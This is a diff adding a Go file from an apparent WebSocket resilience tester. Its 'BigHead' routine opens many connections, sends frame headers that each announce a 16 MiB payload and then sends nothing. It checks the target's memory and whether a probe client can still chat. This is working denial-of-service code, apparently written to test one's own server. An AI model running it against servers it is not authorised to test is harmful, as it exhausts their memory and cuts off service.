@@ -1,0 +1,127 @@
+package attack
+
+import (
+	"bufio"
+	"fmt"
+	"net/http"
+	"os"
+	"strconv"
+	"strings"
+	"time"
+)
+
+// announced is the payload length each bighead header claims: 16 MiB.
+const announced = 16 << 20
+
+// BigHead opens N WebSockets and sends on each the 14-byte header of a
+// binary frame announcing 16 MiB (RFC 6455 §5.2: a 64-bit length), and not
+// one byte of payload. A server that allocates the payload from the
+// announced length pays 16 MiB per header; one that grows its buffer as
+// bytes arrive, or refuses the length (1009), pays nothing (RFC 6455
+// §10.4). With the server's PID the verdict reads its memory
+// (/proc/PID/status); without it, a probe client must still chat.
+func BigHead(c Config) (Result, error) {
+	var p pool
+	defer p.closeAll()
+	start := time.Now()
+	until := start.Add(c.T + c.Drain)
+	before, err := memory(c.PID)
+	if err != nil {
+		return Result{}, err
+	}
+	var opened []*client
+	for range c.N {
+		cl, status, err := c.open(&p, until, "")
+		if err != nil && len(opened) == 0 {
+			return Result{}, err
+		}
+		if err != nil || status != http.StatusSwitchingProtocols {
+			continue
+		}
+		if _, err := cl.conn.Write(header(opBinary, announced)); err == nil {
+			opened = append(opened, cl)
+		}
+	}
+	time.Sleep(time.Until(start.Add(c.T)))
+	after, err := memory(c.PID)
+	if err != nil {
+		return Result{}, err
+	}
+	probeErr := probe(c, &p, until)
+	refused := len(opened) - countKept(opened, time.Now().Add(c.Drain))
+	did := fmt.Sprintf("%d headers announcing 16 MiB with no payload (%d refused by the server)", len(opened), refused)
+	if c.PID != 0 {
+		grew := max(after.rss-before.rss, after.size-before.size)
+		did += fmt.Sprintf(": your server's memory grew by %d MiB (VmRSS %d → %d MiB, VmSize %d → %d MiB)",
+			grew>>20, before.rss>>20, after.rss>>20, before.size>>20, after.size>>20)
+		if grew >= int64(len(opened)-refused)*announced/2 && len(opened) > refused {
+			return Result{Line: did + ": it allocates what a header announces"}, nil
+		}
+	}
+	if probeErr != nil {
+		return Result{Line: fmt.Sprintf("%s: a client could not chat any more (%v)", did, probeErr)}, nil
+	}
+	if refused == len(opened) {
+		return Result{Held: true, Line: did + ": a client still chats; the length is refused before any payload"}, nil
+	}
+	if c.PID == 0 {
+		return Result{Held: true, Line: did + ": a client still chats (give the server's PID to judge its memory)"}, nil
+	}
+	return Result{Held: true, Line: did + ": a client still chats; memory follows the bytes that arrive"}, nil
+}
+
+// probe opens a WebSocket, joins and says something, and waits for it to
+// come back: the chat sends a say to everyone, the speaker included, and an
+// echo server sends back whatever it gets.
+func probe(c Config, p *pool, until time.Time) error {
+	cl, status, err := c.open(p, until, "")
+	if err != nil {
+		return err
+	}
+	if status != http.StatusSwitchingProtocols {
+		return fmt.Errorf("the handshake got %d, not 101", status)
+	}
+	for _, ev := range []event{{Type: "join", Nick: "probe"}, {Type: "say", Text: "still there?"}} {
+		if err := cl.send(opText, mustJSON(ev)); err != nil {
+			return err
+		}
+	}
+	for {
+		op, data, err := cl.read()
+		if err != nil {
+			return err
+		}
+		if op == opText && strings.Contains(string(data), "still there?") {
+			return nil
+		}
+	}
+}
+
+// usage is a process's memory: resident, and address space.
+type usage struct{ rss, size int64 }
+
+// memory reads VmRSS and VmSize of process pid from /proc; pid 0 reads
+// nothing.
+func memory(pid int) (usage, error) {
+	if pid == 0 {
+		return usage{}, nil
+	}
+	f, err := os.Open(fmt.Sprintf("/proc/%d/status", pid))
+	if err != nil {
+		return usage{}, fmt.Errorf("reading the server's memory: %w (is PID=%d the server, on this machine?)", err, pid)
+	}
+	defer f.Close()
+	var u usage
+	sc := bufio.NewScanner(f)
+	for sc.Scan() {
+		name, value, _ := strings.Cut(sc.Text(), ":")
+		kb, _ := strconv.ParseInt(strings.TrimSuffix(strings.TrimSpace(value), " kB"), 10, 64)
+		switch name {
+		case "VmRSS":
+			u.rss = kb << 10
+		case "VmSize":
+			u.size = kb << 10
+		}
+	}
+	return u, sc.Err()
+}
